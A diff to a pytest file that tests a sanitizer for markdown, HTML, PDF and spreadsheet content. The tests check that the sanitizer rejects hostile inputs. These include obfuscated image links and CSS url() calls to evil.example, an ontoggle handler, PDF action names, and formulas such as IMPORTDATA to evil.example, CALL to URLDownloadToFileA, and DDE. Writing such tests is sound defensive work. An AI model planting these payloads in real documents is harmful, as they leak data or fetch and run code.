@@ -109,7 +109,11 @@ def test_checking_ends_for_any_text(text: str) -> None:
 
 @pytest.mark.slow
 @pytest.mark.parametrize(
-    "piece", ["<", "<a ", "<style>", "<!--", "style='", "![", "![a](", "[a]: ", "url(", " on", "/#4"]
+    "piece",
+    [
+        *("<", "<a ", "<style>", "<!--", "style='", "![", "![a](", "[a]: ", "url(", " on", "/#4", "]: >", "](<  "),
+        *("]:\n", "<p\n\n", "<pre", "<a on", "<a src=", "&#0", "&#x", "\\\\", "]:a", "](a"),
+    ],
 )
 def test_checking_takes_linear_time(piece: str) -> None:
     text = piece * (2_000_000 // len(piece))
@@ -207,6 +211,29 @@ def test_xml_that_is_data_is_handed_over() -> None:
         f"![x][1]\n\n[1]: {EVIL}",
         f'<img src="{EVIL}">',
         "<svg>",
+        "![x](https:/evil.example/x)",
+        "![x](https:evil.example/x)",
+        "![x](/\\evil.example/x)",
+        r"![x](\\\\evil.example\x)",
+        r"![x](https\://evil.example/x)",
+        "![x](&#104;ttps://evil.example/x)",
+        "![x](https&colon;&sol;&sol;evil.example/x)",
+        "![x](ht&Tab;tps://evil.example/x)",
+        "![x](<ht\ttps://evil.example/x>)",
+        f"![x]({' ' * 20}{EVIL})",
+        "![x](file:/evil/x)",
+        f"![x][y]\n\n> [y]: {EVIL}",
+        f"![x][y]\n\n> [y]:\n> {EVIL}",
+        f"![x][y]\n\n1. - [y]: {EVIL}",
+        f"![x][y]\n\n[y]:\n{' ' * 20}{EVIL}",
+        f"![x][a b]\n\n[a\nb]: {EVIL}",
+        f"![x][a\\]b]\n\n[a\\]b]: {EVIL}",
+        f"<p style='background: url({EVIL})'>",
+        f"<p title='>' style='background: url({EVIL})'>",
+        f"<p a\"b title='>' style='background: url({EVIL})'>",
+        f"<pre title='\n\n' style='background: url({EVIL})'>",
+        f"<th background={EVIL}>",
+        "<details open ontoggle='x()'>",
     ],
 )
 def test_notes_that_load_pictures_are_not_handed_over(text: str) -> None:
@@ -215,10 +242,16 @@ def test_notes_that_load_pictures_are_not_handed_over(text: str) -> None:
 
 def test_quiet_notes_are_handed_over() -> None:
     assert in_markdown(f"# Sales\n\n[source]({EVIL}), `List<String>`, a < b, ![x](chart.png)\n\n| a |\n|---|\n") == ""
+    assert (
+        in_markdown('![x](data:image/png;base64,aGk=)\n\n[^1]: Note: as of May\n\n<a href="b.md">b</a>, <b>c</b>\n')
+        == ""
+    )
+    assert in_markdown(f"Write to [us](mailto:a@b.example), or see [y].\n\n[y]: {EVIL}\n") == ""
 
 
 @pytest.mark.parametrize(
-    "name", [b"/OpenAction", b"/JS", b"/J#61vaScript", b"/AA", b"/Launch", b"/ObjStm", b"/EmbeddedFile"]
+    "name",
+    [b"/OpenAction", b"/JS", b"/J#61vaScript", b"/AA", b"/Launch", b"/ObjStm", b"/EmbeddedFile", b"/URL", b"/OPI"],
 )
 def test_a_pdf_that_acts_or_could_hide_it_is_not_handed_over(name: bytes) -> None:
     data = pdfs.pdf("boats").replace(b"/Type /Catalog", b"/Type /Catalog " + name + b" 1 0 R", 1)
@@ -322,6 +355,9 @@ def relation(kind: str, target: str = EVIL, mode: str = ' TargetMode="External"'
                 "='\\\\evil\\share\\[x.xlsx]a'!A1",
                 '=RTD("x","y","z")',
                 '=CALL("urlmon","URLDownloadToFileA","JJCCJJ",0)',
+                '=IMPORTDATA("https:/"&"/evil.example/"&A2)',
+                '=importrange(A2,"a")',
+                '=DDE("soffice",A2,"a")',
             )
         ),
         ("a.xlsx", workbook(link="file://evil/share")),
